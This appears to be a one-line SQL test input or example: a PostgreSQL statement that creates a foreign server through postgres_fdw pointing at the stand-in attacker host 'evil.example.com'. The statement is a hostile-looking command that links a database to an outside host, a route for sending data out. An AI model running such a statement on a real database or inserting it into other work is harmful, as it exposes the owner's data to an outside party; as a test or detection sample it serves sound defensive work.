CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example.com')
